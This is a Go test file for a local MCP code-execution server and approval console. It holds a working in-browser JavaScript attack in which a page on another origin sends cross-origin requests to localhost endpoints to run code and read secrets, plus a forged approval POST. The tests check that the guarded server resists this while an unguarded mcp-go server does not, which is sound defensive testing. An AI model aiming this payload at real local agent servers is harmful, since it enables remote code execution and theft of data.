package console

import (
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"

	"github.com/mark3labs/mcp-go/mcp"
	"github.com/mark3labs/mcp-go/server"
	"github.com/stretchr/testify/require"

	"github.com/temporal-codemode/codemode"
	"github.com/temporal-codemode/codemode/starter/console"
	"github.com/temporal-codemode/codemode/starter/guard"
	"github.com/temporal-codemode/codemode/starter/mcpserver"
)

// attack is what a page of another site does to a door on this machine. It gives what it could read.
const attack = `window.attack = async (base, key, code) => {
	const got = [];
	const call = (id, method, params) => JSON.stringify({jsonrpc: "2.0", id, method, params});
	const hello = call(1, "initialize",
		{protocolVersion: "2025-11-25", capabilities: {}, clientInfo: {name: "page", version: "1"}});
	const run = call(2, "tools/call", {name: "codemode", arguments: {code}});
	const stream = new EventSource(base + "/sse" + key);
	const endpoint = await new Promise((ok) => {
		stream.addEventListener("endpoint", (e) => ok(e.data));
		stream.onerror = () => ok("");
	});
	if (endpoint) {
		const answer = new Promise((ok) => {
			stream.onmessage = (e) => { if (JSON.parse(e.data).id === 2) ok(e.data) };
		});
		for (const message of [hello, run])
			await fetch(base + endpoint, {method: "POST", mode: "no-cors", body: message});
		got.push(await answer);
	}
	stream.close();
	for (const path of ["/mcp", "/message", "/api/v1/decide", "/decide"])
		for (const mode of ["cors", "no-cors"])
			for (const type of ["text/plain", "application/json", "application/x-www-form-urlencoded"])
				for (const body of [hello, run])
					try {
						const headers = {"Content-Type": type};
						const r = await fetch(base + path + key,
							{method: "POST", mode, credentials: "include", headers, body});
						if (r.type !== "opaque") got.push(path + " " + r.status + " " + await r.text());
					} catch { }
	for (const path of ["/mcp", "/sse", "/api/v1/pending", "/"])
		try {
			const r = await fetch(base + path + key, {credentials: "include"});
			got.push(path + " " + r.status + " " + await r.text());
		} catch { }
	return got;
}`

// evil is another site: under a name of its own, and as another server of this machine. Both lead to loopback.
func evil(t *testing.T) []string {
	t.Helper()
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) {
		w.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprintf(w, "<!doctype html><title>evil</title><script>%s</script>", attack)
	}))
	t.Cleanup(func() { web.CloseClientConnections(); web.Close() })
	port := web.URL[strings.LastIndex(web.URL, ":"):]
	return []string{"http://evil.example" + port, "http://127.0.0.1" + port, "http://localhost" + port}
}

// inPage attacks a door from a page.
func inPage(p *tab, page, door, key, code string) []string {
	p.navigate(page)
	p.until("window.attack")
	return eval[[]string](p, fmt.Sprintf("attack(%q, %q, %q)", door, key, code))
}

const steal = `return [await bank.read({secret: "of the bank"}), await bank.wire({}).catch(() => "sent")]`

// bareServer runs programs for whoever asks, as a server does that nobody guards.
func bareServer(c *codemode.Client) http.Handler {
	s := server.NewMCPServer("bare", "1")
	s.AddTool(mcp.NewTool("codemode", mcp.WithString("code")),
		func(ctx context.Context, r mcp.CallToolRequest) (*mcp.CallToolResult, error) {
			out, err := c.Execute(ctx, r.GetString("code", ""), codemode.ExecuteOptions{})
			return mcp.NewToolResultStructured(out, string(out.Result)), err
		})
	older := server.NewSSEServer(s)
	mux := http.NewServeMux()
	mux.Handle("/sse", older.SSEHandler())
	mux.Handle("/message", older.MessageHandler())
	return mux
}

// The pages' attack works on a bare server, as mcp-go makes it; the door lets none of it in, with its own key even.
func TestPagesCannotRunPrograms(t *testing.T) {
	d := open(t, console.Options{})
	s, err := mcpserver.New(t.Context(), mcpserver.Options{Runtime: d.client})
	require.NoError(t, err)
	key := guard.Key("the key of the door, which a page may have learnt")
	door, err := mcpserver.NewHTTP(s, mcpserver.HTTPOptions{Key: key, SSE: true})
	require.NoError(t, err)
	guarded := httptest.NewServer(door)
	t.Cleanup(func() { _ = door.Close(); guarded.CloseClientConnections(); guarded.Close() })
	p := d.tab("/") // the browser is signed in at the console, too
	for _, page := range evil(t) {
		for _, given := range []string{"", "?key=" + strings.ReplaceAll(string(key), " ", "+")} {
			require.Empty(t, inPage(p, page, guarded.URL, given, steal), page)
			require.Empty(t, inPage(p, page, d.site.URL, given, steal), page)
		}
	}
	require.Empty(t, d.lab.list())

	bare := httptest.NewServer(bareServer(d.client))
	t.Cleanup(func() { bare.CloseClientConnections(); bare.Close() })
	require.Contains(t, strings.Join(inPage(p, evil(t)[0], bare.URL, "", steal), "\n"), "of the bank",
		"what the door is there for")
	require.NotEmpty(t, d.lab.list())
}

// A page cannot approve in an open console where the browser is signed in, nor can a program on this machine that has a
// browser but not the key.
func TestPagesCannotApprove(t *testing.T) {
	d := open(t, console.Options{})
	o := d.pause(`return await bank.post({ n: 1 })`)
	approval := fmt.Sprintf(`{"decisions":[{"action":"approve","executionId":%q,"seq":0,"argsDigest":%q}]}`,
		o.ExecutionID, o.Pending[0].ArgsDigest)
	status, _ := d.request("POST", "/api/v1/decide", approval, map[string]string{"Content-Type": "application/json"})
	require.Equal(t, 401, status)
	stranger := d.strangersTab("/")
	stranger.sees("Open the address that starter console printed")
	require.NotContains(t, eval[string](stranger, "document.body.innerText"), "post")
	p := d.tab("/")
	p.wait(".card")
	for _, page := range evil(t) {
		p.navigate(page)
		p.until("window.attack")
		got := eval[string](p, fmt.Sprintf(`fetch(%q, {method: "POST", mode: "no-cors", credentials: "include",
			body: %q}).then((r) => r.type, () => "refused")`, d.site.URL+"/api/v1/decide", approval))
		require.Contains(t, []string{"opaque", "refused"}, got)
	}
	pending, err := d.client.Pending(context.Background(), o.ExecutionID)
	require.NoError(t, err)
	require.Len(t, pending, 1)
	require.Empty(t, d.lab.list())
}
